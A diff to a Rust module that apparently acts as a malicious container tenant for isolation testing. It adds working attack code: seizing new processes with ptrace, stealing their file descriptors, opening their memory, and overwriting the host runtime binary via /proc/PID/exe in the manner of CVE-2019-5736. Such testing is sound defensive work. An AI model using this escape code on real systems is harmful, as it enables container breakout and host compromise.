@@ -1,8 +1,154 @@
-//! A tenant's attacks, one word each.
+//! A tenant's attacks on whoever comes into his container, one word each.
+//!
+//! `trace SECONDS` tries to trace, and to steal descriptors of, every process that appears; `overwrite SECONDS` tries to
+//! write to the programs that they run from; `swallow FILE` reads its input into memory that is FILE, which may never
+//! be there. The first two print what they achieved, a line each; nothing is good news.
 
+use std::collections::BTreeSet;
+use std::fs::{File, OpenOptions};
+use std::io::Write;
+use std::os::fd::{AsRawFd, OwnedFd};
+use std::path::Path;
 use std::process::ExitCode;
+use std::time::{Duration, Instant};
+
+use nix::sys::ptrace;
+use nix::sys::wait::{WaitPidFlag, WaitStatus, waitpid};
+use nix::unistd::Pid;
+
+use crate::sys;
+
+/// Descriptors that are asked for.
+const DESCRIPTORS: i32 = 24;
 
 /// Does what the first word says.
 pub(crate) fn run(words: &[String]) -> ExitCode {
-    ExitCode::from(if words.is_empty() { 2 } else { 3 })
+    let (Some(word), Some(argument)) = (words.first(), words.get(1)) else {
+        return ExitCode::from(2);
+    };
+    let seconds = Duration::from_secs(argument.parse().unwrap_or(1));
+    match word.as_str() {
+        "trace" => attack(seconds, trace),
+        "overwrite" => attack(seconds, overwrite),
+        "swallow" => return swallow(argument),
+        _ => return ExitCode::from(2),
+    }
+    ExitCode::SUCCESS
+}
+
+/// Attacks every process that was not there at the start, again and again.
+fn attack(time: Duration, with: fn(i32)) {
+    let start = Instant::now();
+    let known: BTreeSet<i32> = processes().collect();
+    say("ready");
+    let mut seen = BTreeSet::new();
+    while start.elapsed() < time {
+        for pid in processes().filter(|pid| !known.contains(pid)) {
+            seen.insert(pid);
+            with(pid);
+        }
+    }
+    say(&format!("saw {}", seen.len()));
+}
+
+fn processes() -> impl Iterator<Item = i32> {
+    let names = std::fs::read_dir("/proc").into_iter().flatten().flatten();
+    names.filter_map(|entry| entry.file_name().to_str()?.parse().ok())
+}
+
+/// Seizes it, steals its descriptors, opens its memory.
+fn trace(pid: i32) {
+    let before = name(pid);
+    let process = Pid::from_raw(pid);
+    if ptrace::seize(process, ptrace::Options::PTRACE_O_TRACEEXEC).is_ok() {
+        say(&format!("seized {before}"));
+        // If it executes something now it was seized before it was what it is to be.
+        for _ in 0..200 {
+            match waitpid(process, Some(WaitPidFlag::WNOHANG)) {
+                Ok(WaitStatus::PtraceEvent(..)) => {
+                    say(&format!("seized {before} before its exec"));
+                    break;
+                }
+                Ok(WaitStatus::Exited(..) | WaitStatus::Signaled(..)) | Err(_) => return,
+                Ok(_) => std::thread::yield_now(),
+            }
+        }
+        if ptrace::interrupt(process).is_ok() {
+            let _ = waitpid(process, None);
+        }
+        let _ = ptrace::detach(process, None);
+    }
+    for number in 0..DESCRIPTORS {
+        if let Ok(stolen) = sys::steal(pid, number) {
+            say(&format!("stole {} of {before}", kind(&stolen)));
+        }
+    }
+    if OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open(format!("/proc/{pid}/mem"))
+        .is_ok()
+    {
+        say(&format!(
+            "opened the memory of {before}, then {}",
+            name(pid)
+        ));
+    }
+}
+
+/// What a stolen descriptor leads to.
+fn kind(stolen: &OwnedFd) -> String {
+    let link = std::fs::read_link(format!("/proc/self/fd/{}", stolen.as_raw_fd()));
+    let link = link.unwrap_or_default().display().to_string();
+    link.split(':').next().unwrap_or_default().to_owned()
+}
+
+fn name(pid: i32) -> String {
+    let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
+    comm.trim().to_owned()
+}
+
+/// Writes to the program that it runs from (CVE-2019-5736).
+fn overwrite(pid: i32) {
+    let Ok(program) = OpenOptions::new()
+        .read(true)
+        .open(format!("/proc/{pid}/exe"))
+    else {
+        return;
+    };
+    let through = format!("/proc/self/fd/{}", program.as_raw_fd());
+    let what = std::fs::read_link(&through).unwrap_or_default();
+    // What is the container's own is no conquest.
+    if Path::new("/").join(&what).exists() {
+        return;
+    }
+    say(&format!("has {}", what.display()));
+    for _ in 0..100 {
+        let mut options = OpenOptions::new();
+        let written = options
+            .write(true)
+            .open(&through)
+            .and_then(|mut file| file.write(b"pwned"));
+        if written.is_ok() {
+            say(&format!("wrote to {}", what.display()));
+            return;
+        }
+        std::thread::yield_now();
+    }
+}
+
+/// Reads into memory whose pages somebody else has to bring.
+fn swallow(path: &str) -> ExitCode {
+    let Ok(file) = File::open(path) else {
+        return ExitCode::from(4);
+    };
+    match sys::read_into(&file) {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(_) => ExitCode::from(3),
+    }
+}
+
+fn say(text: &str) {
+    let mut stdout = std::io::stdout();
+    drop(writeln!(stdout, "{text}").and_then(|()| stdout.flush()));
 }
